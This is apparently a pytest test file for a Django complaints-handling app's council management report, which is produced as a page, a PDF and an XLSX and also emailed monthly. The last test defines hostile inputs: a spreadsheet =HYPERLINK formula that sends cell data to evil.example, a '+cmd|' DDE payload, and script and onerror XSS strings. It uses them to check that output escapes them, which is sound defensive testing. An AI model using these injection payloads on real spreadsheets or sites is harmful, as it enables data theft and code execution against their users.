"""The council's management report (issue 13, capability 8): the dashboard's figures per establishment and in
total as a PDF and an XLSX, on demand at /consejo/informe/ (scoped) and e-mailed monthly to the council."""

from __future__ import annotations

import io
import subprocess
from datetime import date

import pytest
from celery.schedules import crontab
from django.conf import settings as django_settings
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from reclamaciones.access import Role, Scope
from reclamaciones.council import report as management
from reclamaciones.council.report import council_report_queue, management_report, month_period, previous_month
from reclamaciones.council.rollup import rollup_rebuild
from reclamaciones.council.tasks import council_report_monthly
from reclamaciones.handling.models import Cause
from reclamaciones.outbox import render
from reclamaciones.outbox.models import OutboundMessage

from ..factories import EstablishmentFactory, cause_get, staff_user
from .actions_support import at
from .pages_support import PERIOD, _action, _file

pytestmark = pytest.mark.django_db

OCTOBER = {"mes": "2026-10"}
HOSTILE_CAUSE = '=HYPERLINK("http://evil.example/?x="&A1,"clic")<script>alert(1)</script>'
HOSTILE_ACTION = "+cmd|' /C calc'!A0 <img src=x onerror=alert(2)>"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _pdf_text(content: bytes, pdftotext: str, *, layout: bool = False) -> str:
    """The PDF's text: in reading order, or with -layout (a table's row on one line)."""
    args = [pdftotext, *(["-layout"] if layout else []), "-", "-"]
    result = subprocess.run(args, input=content, capture_output=True, check=True)
    return result.stdout.decode()


def _workbook(content: bytes):
    return load_workbook(io.BytesIO(content))


def test_months_and_their_labels():
    assert month_period(2026, 12) == (date(2026, 12, 1), date(2026, 12, 31))
    assert month_period(2028, 2) == (date(2028, 2, 1), date(2028, 2, 29))
    assert previous_month(date(2027, 1, 1)) == (date(2026, 12, 1), date(2026, 12, 31))
    assert management.period_label(date(2026, 10, 1), date(2026, 10, 31)) == "octubre de 2026"
    assert management.period_label(date(2026, 12, 1), date(2026, 12, 3)) == "del 01/12/2026 al 03/12/2026"
    assert management.report_filename(date(2026, 10, 1), date(2026, 10, 31), "pdf") == "informe-consejo-2026-10.pdf"


def test_report_figures_equal_the_dashboards_for_the_same_period(client, answered_book, actions, establishment):
    council = staff_user("consejo", Role.COUNCIL, establishments=[establishment])
    client.force_login(council)
    rollup_rebuild(now=timezone.now())

    dashboard = client.get(reverse("council:dashboard"), PERIOD).context
    page = client.get(reverse("council:report"), OCTOBER)

    assert page.status_code == 200
    total = page.context["report"]["total"]
    performance = dashboard["performance"]
    for figure in ("answered", "on_time", "late", "unanswered_overdue", "median_business_days", "overdue_now"):
        assert total[figure] == performance[figure], figure
    assert total["filed"] == performance["total"] == 7
    assert (total["answered"], total["on_time"], total["on_time_rate"]) == (2, 2, 100.0)
    assert [(r["code"], r["count"]) for r in total["causes"]] == [
        (r["code"], r["count"]) for r in dashboard["pareto"]["rows"]
    ]
    assert total["unclassified"] == dashboard["pareto"]["unclassified"] == 1
    [row] = dashboard["establishments"]
    assert (total["reclamos"], total["quejas"]) == (row["reclamos"], row["quejas"])
    overall = dashboard["surveys"]["overall"]
    assert total["survey"]["answers"] == overall["answers"] == 2
    assert total["survey"]["csat_avg"] == round(overall["csat_avg"], 2) == 3.5
    assert total["survey"]["nps"] == overall["nps"]
    assert total["actions"]["effective"] + total["actions"]["not_effective"] == len(dashboard["actions"]["verdicts"])
    # one establishment: its column is the total
    [column] = page.context["report"]["establishments"]
    assert {k: v for k, v in column.items() if k not in ("id", "name")} == total
    html = page.content.decode()
    assert 'href="?mes=2026-10&amp;formato=pdf"' in html
    assert 'href="?mes=2026-10&amp;formato=xlsx"' in html


def test_actions_by_status_and_verdicts_in_the_period(actions, establishment):
    today = timezone.localdate()
    start, end = month_period(today.year, today.month)
    rollup_rebuild(now=timezone.now())

    data = management_report(scope=Scope.everything(), start=start, end=end, today=today)

    titles = {group: [row["title"] for row in rows] for group, rows in data["actions"].items()}
    assert titles["open"] == ["Capacitar al equipo de caja", "Revisar el stock publicado"]
    assert titles["in_verification"] == ["Nuevo proceso de devoluciones"]
    # verified two days ago: a verdict of this month only when those days are in it
    verified_this_month = timezone.localdate(actions["verified"].verified_at) >= start
    assert titles["verdicts"] == (["Confirmar entregas por SMS"] if verified_this_month else [])
    assert data["total"]["actions"]["open"] == 2
    assert data["total"]["actions"]["open_overdue"] == 1
    assert data["total"]["actions"]["in_verification"] == 1


def test_a_scoped_supervisor_gets_only_her_establishment(client, book, establishment, file_complaint, pdftotext):
    other = EstablishmentFactory(name="Tienda Ajena Miraflores")
    _file(file_complaint, cause_get("TST-09"), establishment=other)
    supervisor = staff_user("sup", Role.SUPERVISOR, establishments=[establishment])
    client.force_login(supervisor)
    rollup_rebuild(now=timezone.now())

    page = client.get(reverse("council:report"), OCTOBER)
    assert [e["name"] for e in page.context["report"]["establishments"]] == [establishment.name]
    assert page.context["report"]["total"]["filed"] == 7
    assert "TST-09" not in {row["code"] for row in page.context["report"]["total"]["causes"]}
    assert other.name not in page.content.decode()

    text = _pdf_text(client.get(reverse("council:report"), {**OCTOBER, "formato": "pdf"}).content, pdftotext)
    assert establishment.name in text
    assert other.name not in text
    assert "TST-09" not in text
    book_xlsx = _workbook(client.get(reverse("council:report"), {**OCTOBER, "formato": "xlsx"}).content)
    cells = {str(c.value) for sheet in book_xlsx for row in sheet.iter_rows() for c in row if c.value is not None}
    assert establishment.name in cells
    assert other.name not in cells
    assert "TST-09" not in cells

    # another establishment's id is not a choice of hers: a 400 with the form's message, not its figures
    refused = client.get(reverse("council:report"), {**OCTOBER, "establecimiento": other.pk, "formato": "pdf"})
    assert refused.status_code == 400
    assert "Escoja una opción válida" in refused.content.decode()

    auditor = staff_user("aud", Role.AUDITOR, all_establishments=True)
    client.force_login(auditor)
    everywhere = client.get(reverse("council:report"), OCTOBER).context["report"]
    assert {e["name"] for e in everywhere["establishments"]} == {establishment.name, other.name}
    assert everywhere["total"]["filed"] == 8
    one = client.get(reverse("council:report"), {**OCTOBER, "establecimiento": other.pk}).context["report"]
    assert [e["name"] for e in one["establishments"]] == [other.name]
    assert one["total"]["filed"] == 1
    assert one["scope"] == other.name


def test_the_xlsx_has_its_sheets_headers_and_figures(client, answered_book, actions, establishment):
    client.force_login(staff_user("consejo", Role.COUNCIL, establishments=[establishment]))
    rollup_rebuild(now=timezone.now())

    response = client.get(reverse("council:report"), {**OCTOBER, "formato": "xlsx"})

    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    assert 'filename="informe-consejo-2026-10.xlsx"' in response["Content-Disposition"]
    workbook = _workbook(response.content)
    assert workbook.sheetnames == ["Resumen", "Indicadores", "Causas", "Acciones"]
    kpis = [[c.value for c in row] for row in workbook["Indicadores"].iter_rows()]
    assert kpis[0] == management.KPI_HEADERS
    assert [row[0] for row in kpis[1:]] == [establishment.name, "Total"]
    total = dict(zip(management.KPI_HEADERS, kpis[-1], strict=True))
    assert (total["Hojas presentadas"], total["Respuestas comunicadas"], total["A tiempo"]) == (7, 2, 2)
    assert (total["% a tiempo"], total["CSAT (1-5)"], total["Sin causa"]) == (100, 3.5, 1)
    causes = [[c.value for c in row] for row in workbook["Causas"].iter_rows()]
    assert causes[0] == management.CAUSE_HEADERS
    assert causes[1][:6] == ["Total", 1, "TST-01", "Causa TST-01", "Categoría de prueba", 3]
    acts = [[c.value for c in row] for row in workbook["Acciones"].iter_rows()]
    assert acts[0] == management.ACTION_HEADERS
    assert ["Pendiente de implementar", "Capacitar al equipo de caja"] in [row[:2] for row in acts]
    summary = [[c.value for c in row] for row in workbook["Resumen"].iter_rows()]
    assert ["Periodo", "octubre de 2026"] in [row[:2] for row in summary]


def test_the_pdf_has_the_headings_and_the_figures(client, answered_book, actions, establishment, pdftotext):
    client.force_login(staff_user("consejo", Role.COUNCIL, establishments=[establishment]))
    rollup_rebuild(now=timezone.now())

    response = client.get(reverse("council:report"), {**OCTOBER, "formato": "pdf"})

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert 'filename="informe-consejo-2026-10.pdf"' in response["Content-Disposition"]
    text = _pdf_text(response.content, pdftotext)
    flat = " ".join(text.split())
    for heading in (
        "Informe de gestión del consejo de mejora",
        "Periodo: octubre de 2026",
        "Indicadores por establecimiento",
        "Causas más frecuentes (Pareto)",
        "Acciones de mejora",
        "Pendientes de implementar",
    ):
        assert heading in flat, heading
    assert "hojas presentadas (7 reclamos · 0 quejas)" in flat
    assert "100.0 %" in flat
    assert "Causa TST-01" in flat
    assert "Capacitar al equipo de caja" in flat
    table = _pdf_text(response.content, pdftotext, layout=True)
    total_line = next(line for line in table.splitlines() if line.strip().startswith("Total"))
    assert total_line.split()[1:6] == ["7", "7", "0", "2", "2"]  # hojas, reclamos, quejas, answered, on time


def test_the_monthly_task_mails_each_council_member_once_with_both_files(answered_book, council_members):
    staff_user("agente", Role.AGENT, is_staff=False, profile=False)

    assert council_report_queue(now=at(date(2026, 11, 1), 7), scope=Scope.everything()) == 2
    assert council_report_queue(now=at(date(2026, 11, 1), 7, 1), scope=Scope.everything()) == 0  # the beat twice
    assert council_report_queue(now=at(date(2026, 11, 20), 9), scope=Scope.everything()) == 0  # same month
    messages = list(OutboundMessage.objects.filter(kind=OutboundMessage.Kind.COUNCIL_REPORT).order_by("recipient"))
    assert [(m.recipient, m.idempotency_key) for m in messages] == [
        ("consejo1@andina.example.pe", "council-report:2026-10:consejo1@andina.example.pe"),
        ("consejo2@andina.example.pe", "council-report:2026-10:consejo2@andina.example.pe"),
    ]
    data = messages[0].context["report"]
    assert messages[1].context == messages[0].context  # one report, taken once for everyone
    assert (data["start"], data["end"], data["total"]["filed"], data["total"]["answered"]) == (
        "2026-10-01",
        "2026-10-31",
        7,
        2,
    )

    email = render.message_build(messages[0])
    assert "octubre de 2026" in email.subject
    assert "7 hojas" in email.body
    names = {name: (content, mime) for name, content, mime in email.attachments}
    assert set(names) == {"informe-consejo-2026-10.pdf", "informe-consejo-2026-10.xlsx"}
    assert names["informe-consejo-2026-10.pdf"][0].startswith(b"%PDF")
    assert names["informe-consejo-2026-10.xlsx"][1] == XLSX
    assert _workbook(names["informe-consejo-2026-10.xlsx"][0]).sheetnames[1] == "Indicadores"
    html = email.alternatives[0][0]
    assert reverse("council:report") in html

    # the beat task: the month before today, once
    today = timezone.localdate()
    start, _ = previous_month(today)
    assert council_report_monthly() == 2
    assert council_report_monthly() == 0
    assert OutboundMessage.objects.filter(idempotency_key__startswith=f"council-report:{start:%Y-%m}:").count() == 2


def test_the_beat_runs_the_task_on_the_first_at_seven_lima():
    [entry] = [e for e in django_settings.CELERY_BEAT_SCHEDULE.values() if e["task"].endswith("council_report_monthly")]
    assert entry["schedule"] == crontab(hour="7", minute="0", day_of_month="1")
    assert django_settings.CELERY_TIMEZONE == "America/Lima"
    from config.celery import app

    assert "reclamaciones.tasks.council_report_monthly" in app.tasks


@pytest.mark.parametrize("role", [Role.COUNCIL, Role.SUPERVISOR, Role.AUDITOR, Role.COMPLIANCE])
def test_council_readers_open_the_report(client, establishment, role):
    client.force_login(staff_user("quien", role, establishments=[establishment]))
    response = client.get(reverse("council:report"))
    assert response.status_code == 200
    start, _ = previous_month(timezone.localdate())
    assert response.context["report"]["start"] == start  # the month the e-mail would send
    assert "Informe de gestión" in response.content.decode()


def test_agents_get_403_and_anonymous_visitors_the_login(client, establishment):
    response = client.get(reverse("council:report"), {**OCTOBER, "formato": "xlsx"})
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("staff:login"))
    client.force_login(staff_user("agente", Role.AGENT, establishments=[establishment]))
    assert client.get(reverse("council:report")).status_code == 403
    assert client.get(reverse("council:report"), {**OCTOBER, "formato": "pdf"}).status_code == 403


@pytest.mark.parametrize(
    ("month", "message"),
    [
        ("2026-13", "Ese mes no existe"),
        ("octubre", "AAAA-MM"),
        ("2999-01", "Elige un mes entre"),
        ("2001-01", "Elige un mes entre"),
    ],
)
def test_a_bad_month_is_a_400_with_a_message(client, establishment, month, message):
    client.force_login(staff_user("consejo", Role.COUNCIL, establishments=[establishment]))
    response = client.get(reverse("council:report"), {"mes": month, "formato": "pdf"})
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    assert message in response.content.decode()


def test_hostile_cause_and_action_names_stay_inert(client, file_complaint, establishment, pdftotext):
    category = cause_get("TST-01").parent
    hostile = Cause.objects.create(code="=1+1", name=HOSTILE_CAUSE, parent=category)
    for _ in range(2):
        _file(file_complaint, hostile)
    owner = staff_user("pedro", Role.COUNCIL, is_staff=False, profile=False, first_name="=SUM(A1)")
    _action(HOSTILE_ACTION, owner, hostile, due_date=date(2026, 10, 20))
    council = staff_user("consejo", Role.COUNCIL, establishments=[establishment])
    client.force_login(council)
    rollup_rebuild(now=timezone.now())

    workbook = _workbook(client.get(reverse("council:report"), {**OCTOBER, "formato": "xlsx"}).content)
    cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)  # no formula anywhere
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert "'" + HOSTILE_CAUSE in texts
    assert "'=1+1" in texts
    assert "'" + HOSTILE_ACTION in texts
    assert not any(text.startswith(("=", "+", "-", "@")) for text in texts)

    text = " ".join(
        _pdf_text(client.get(reverse("council:report"), {**OCTOBER, "formato": "pdf"}).content, pdftotext).split()
    )
    assert "<script>alert(1)</script>" in text  # printed as text, never run
    assert "onerror=alert(2)" in text

    html = client.get(reverse("council:report"), OCTOBER).content.decode()
    assert "<script>alert(1)" not in html
    assert "<img src=x" not in html

    # the e-mail renders the same names as text
    council_report_queue(now=at(date(2026, 11, 1), 7), scope=Scope.everything())
    email = render.message_build(OutboundMessage.objects.filter(kind=OutboundMessage.Kind.COUNCIL_REPORT).first())
    assert "<script>alert(1)" not in email.alternatives[0][0]
